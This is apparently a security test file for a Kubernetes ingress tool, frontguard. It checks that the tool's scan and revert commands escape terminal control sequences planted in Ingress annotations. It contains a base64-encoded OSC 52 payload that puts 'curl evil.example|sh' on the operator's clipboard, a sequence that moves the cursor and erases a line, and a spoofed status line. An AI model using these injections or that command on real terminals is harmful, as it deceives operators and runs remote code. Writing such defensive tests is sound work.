"""Finding 12: the CLI escapes what users wrote before it reaches an operator's terminal."""

from __future__ import annotations

import json

from frontguard.cli import main

from tests.security.catalogue import attack

OSC52 = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # writes "curl evil.example|sh" to the clipboard
)
CURSOR = "\x1b[1A\x1b[2K"  # up one line, erase it
INGRESS_SG = "alb.ingress.kubernetes.io/security-groups"


@attack(
    "12",
    "edit an Ingress's annotations",
    "an exemption reason holding cursor-movement and OSC 52 clipboard sequences, shown by "
    "`frontguard scan`",
    "printed escaped (\\x1b...), never raw",
)
def test_scan_output_escapes_terminal_sequences(sandbox, capsys):
    prod = sandbox.cluster("prod")
    prod.ingress("shop/web", ports=[443], annotations={"frontguard.io/exempt": OSC52 + CURSOR})

    main(["scan", "--all"])
    out = capsys.readouterr().out

    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b]52;c;" in out


@attack(
    "12",
    "edit an Ingress's annotations",
    "pre-seed frontguard.io/replaced with values holding newlines and terminal sequences, so "
    "`frontguard revert` prints them raw",
    "revert prints them escaped on one line each",
)
def test_revert_output_escapes_what_the_record_holds(sandbox, fg, capsys):
    prod = sandbox.cluster("prod")
    record = {INGRESS_SG: "sg-0123456789abcdef0\nrestored everything, all good" + OSC52}
    web = prod.ingress(
        "shop/web", ports=[443], annotations={"frontguard.io/replaced": json.dumps(record)}
    )
    fg.deliver(web.event)

    main(["revert", "--cluster", "prod"])
    out = capsys.readouterr().out

    assert "\x1b" not in out and "\x07" not in out
    assert "\nrestored everything" not in out
